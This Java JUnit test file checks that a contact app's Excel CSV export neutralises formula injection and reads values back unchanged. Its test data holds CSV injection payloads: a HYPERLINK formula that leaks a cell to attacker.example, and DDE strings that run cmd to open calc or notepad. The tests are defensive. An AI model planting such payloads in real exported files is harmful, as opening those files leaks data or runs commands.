package app.rapport.interchange.csv;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import app.rapport.interchange.Exports;
import app.rapport.interchange.contacts.AddressBook;
import app.rapport.interchange.contacts.ContactFiles;
import app.rapport.interchange.contacts.ImportedContact;
import app.rapport.journal.Birthday;
import app.rapport.journal.Contact;
import app.rapport.journal.Progress;
import app.rapport.store.SqliteJournal;
import app.rapport.store.TestJournals;
import java.io.OutputStream;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Issue 16, item 7: names and notes such as {@code =HYPERLINK(...)} went unchanged into the Excel
 * export, where opening the file runs them. Every cell a spreadsheet would take for a formula
 * starts with a quote in the Excel CSV, and Rapport reads the file back to the same values.
 */
class ExcelFormulaTest {

    /** The formula list: what OWASP's CSV injection page and the issue tried. */
    static final List<String> FORMULAS = List.of(
            "=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"x\")",
            "=1+1",
            "@SUM(1+1)",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "=cmd|' /C notepad'!'A1'",
            "'=1+1 already quoted");

    @TempDir
    Path tmp;

    private List<Contact> saved(SqliteJournal journal) {
        List<Contact> out = new ArrayList<>();
        for (int i = 0; i < FORMULAS.size(); i++) {
            String formula = FORMULAS.get(i);
            out.add(journal.saveContact(Contact.builder(formula).organization(formula).role("Role " + i)
                    .notes(formula).howWeMet("\t" + formula).interests(List.of(formula))
                    .phones(List.of("+49 221 555 0" + i)).build()));
        }
        // A note that begins with a carriage return, and a birthday without a year (--MM-DD).
        out.add(journal.saveContact(Contact.builder("Carla Return").notes("\r=1+2").birthday(Birthday.of(4, 12)).build()));
        return out;
    }

    private Path export(SqliteJournal journal, Exports.Format format, String name) throws Exception {
        Path file = tmp.resolve(name);
        try (OutputStream out = Files.newOutputStream(file)) {
            Exports.write(format, null, journal.allContacts(), Instant.parse("2026-12-01T00:00:00Z"), out);
        }
        return file;
    }

    @Test
    void noCellOfTheExcelExportStartsAFormulaAndEveryValueReadsBack() throws Exception {
        try (SqliteJournal journal = TestJournals.open(tmp.resolve("data"))) {
            List<Contact> contacts = saved(journal);
            Path file = export(journal, Exports.Format.CSV_EXCEL, "excel.csv");

            String text = new String(Files.readAllBytes(file), StandardCharsets.UTF_8).substring(1); // the BOM
            List<CSVRecord> rows = CSVFormat.Builder.create(CSVFormat.RFC4180).setDelimiter(';').get()
                    .parse(new StringReader(text)).getRecords();
            int quoted = 0;
            for (CSVRecord row : rows.subList(1, rows.size())) {
                for (String cell : row) {
                    assertFalse(!cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0,
                            "a cell a spreadsheet runs: " + cell);
                    if (cell.startsWith("'")) {
                        quoted++;
                    }
                }
            }
            assertTrue(quoted >= FORMULAS.size() * 6, "names, organisations, notes, how we met, interests, phones: " + quoted);
            assertTrue(text.contains(";'+49 221 555 00;"), "a phone number starts with + too");
            assertTrue(text.contains(";'--04-12;"), "a birthday without a year starts with -");

            AddressBook back = ContactFiles.read(file, Progress.NONE);
            assertEquals(List.of(), back.invalid());
            List<Contact> read = back.contacts().stream().map(ImportedContact::contact).toList();
            assertEquals(contacts.stream().map(Contact::name).sorted().toList(), read.stream().map(Contact::name).sorted().toList());
            for (Contact c : contacts) {
                Contact r = read.stream().filter(x -> x.name().equals(c.name())).findFirst().orElseThrow();
                assertEquals(c.organization(), r.organization());
                assertEquals(c.notes().strip(), r.notes(), "notes come back (the reader strips white space at the ends)");
                assertEquals(c.interests(), r.interests());
                assertEquals(c.phones(), r.phones());
                assertEquals(c.birthday(), r.birthday());
            }
        }
    }

    @Test
    void aLeadingTabOrCarriageReturnIsNotStrippedBeforeTheCellIsJudged() {
        // The store strips them from what it saves; a cell is still judged by its first character as given.
        assertEquals("'\t=1+2", CsvContactWriter.neutralised("\t=1+2"));
        assertEquals("'\r=1+2", CsvContactWriter.neutralised("\r=1+2"));
        assertEquals("Anna", CsvContactWriter.neutralised("Anna"));
    }

    @Test
    void plainCsvKeepsEveryValueAsStoredForPrograms() throws Exception {
        try (SqliteJournal journal = TestJournals.open(tmp.resolve("data"))) {
            saved(journal);
            String text = Files.readString(export(journal, Exports.Format.CSV, "plain.csv"));
            assertTrue(text.contains(",=1+1,=1+1,"), text);
            assertTrue(text.contains(",+49 221 555 00,"), text);
        }
    }
}
